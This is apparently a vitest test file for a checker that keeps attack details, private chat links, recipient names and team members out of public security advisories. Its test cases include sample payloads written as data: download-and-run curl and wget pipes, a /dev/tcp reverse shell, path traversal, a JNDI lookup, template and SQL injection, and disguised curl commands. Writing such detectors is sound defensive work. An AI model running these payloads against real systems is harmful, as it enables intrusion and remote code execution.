import { describe, expect, it } from 'vitest'
import { wordingFindings } from './wording.ts'
import type { WordingProblem } from './wording.ts'

const SECRET = {
  recipients: ['North Hosting', 'security@north.example'],
  people: ['Ana', 'Robin Sample', 'robin@sample.example'],
  channels: ['sec-2026-0042'],
  prefixes: ['SEC', 'PSF'],
  cases: ['SEC-2026-0042', 'SEC-2026-0043'],
}

const problems = (text: string): readonly WordingProblem[] =>
  wordingFindings(text, SECRET).map(({ problem }) => problem)

describe('a line that must not become public', () => {
  it.each([
    [
      'the announced proof of concept that once went out',
      'PoC: {{ include "../x" }} then curl http://127.0.0.1/a | sh',
    ],
    ['a proof of concept by its long name', 'Proof of concept with two files: see below'],
    ['steps to reproduce', 'To reproduce: open the page twice'],
    ['a block of code', '```sh'],
    ['a tag of a script', 'A title such as <script>alert(1)</script> is run.'],
    ['a typed command', '$ quillmark render evil.md'],
    ['a download that is run', 'wget -qO- host.example/x | bash'],
    ['a command with its option', 'python3 -c "print(1)"'],
    ['a shell over the network', 'bash >& /dev/tcp/192.0.2.1/4444'],
    ['a path that climbs', 'The name ../../etc/motd is taken.'],
    ['an encoded path that climbs', 'The name %2e%2e%2fmotd is taken.'],
    ['bytes in escapes', String.raw`\x90\x90\xcc`],
    ['a lookup in a log line', '${jndi:ldap://host.example/a}'],
    ['a template that computes', 'A title of {{7*7}} is shown as 49.'],
    ['an injection into a query', "A name of ' OR '1'='1 logs in."],
    ['a request', 'GET /admin?id=1 HTTP/1.1'],
    ['a link to an exploit', 'See https://files.example/exploit.py'],
    ['a blob', 'QUJD'.repeat(30)],
    ['a long run of one letter', 'A'.repeat(40)],
    ['a command in full-width letters', 'ｃｕｒｌ　ｈｔｔｐ://host.example/x'],
    ['a command with invisible characters', 'cu\u200Brl http://host.example/x'],
  ])('%s', (_attack, line) => {
    expect(problems(`Reads files.\n${line}`)).toEqual(['attack'])
  })

  it.each<readonly [string, string, WordingProblem]>([
    ['a link into Slack', 'See https://quillmark.slack.com/archives/C012345', 'channel'],
    ['a link into Discord', 'See https://discord.com/channels/1/2', 'channel'],
    ['an invitation to Discord', 'Ask at discord.gg/abcdef', 'channel'],
    ['a channel as Slack writes it', 'As said in <#C0123456|sec>', 'channel'],
    ['an account as Discord writes it', 'As <@!123456789> said', 'channel'],
    ['the name of the channel', 'As said in #sec-2026-0042.', 'channel'],
    ['the name of a recipient', 'Users of North Hosting are safe.', 'recipient'],
    ['the address of a recipient', 'Ask security@north.example', 'recipient'],
    ['another case', 'It is like PSF-2026-0007.', 'case'],
    ['a person of the team', 'Ana fixed it.', 'person'],
    ['the reporter', 'Robin Sample may read files.', 'person'],
  ])('%s', (_what, line, problem) => {
    expect(problems(line)).toEqual([problem])
  })

  it('is listed once for each problem, shortened, and on one line', () => {
    const line = `Ana:\t  see   #sec-2026-0042, ${'and so on '.repeat(40)}`
    expect(wordingFindings(`ok\n${line}`, SECRET)).toEqual(
      (['channel', 'person'] as const).map((problem) => ({
        problem,
        line: line.replaceAll(/\s+/gu, ' ').slice(0, 160),
      })),
    )
  })
})

describe('a line that may become public', () => {
  it.each([
    'By sending a crafted attachment name, an attacker may write files outside of the folder, such as /etc/motd.',
    'Set allow_include=False in the settings, or upgrade to 2.4.1 with pip.',
    'Remote code execution through the node and the python module, if the shell is enabled.',
    'SEC-2026-0042 and SEC-2026-0043 are fixed; CVE-1900-0042 and GHSA-2222-3333-4444 are the same.',
    'An exploit is public.',
    'Analysts who use curl to read https://quillmark.example/ are not affected.',
    'Northern users, and all whose host is not North.',
    'https://quillmark.example/security/CVE-1900-0042 has more.',
    'CVSS:4.0/AV:N/AC:L/AT:N/PR:N/UI:P/VC:N/VI:H/VA:N/SC:N/SI:N/SA:N',
  ])('%s', (line) => {
    expect(wordingFindings(line, SECRET)).toEqual([])
  })
})
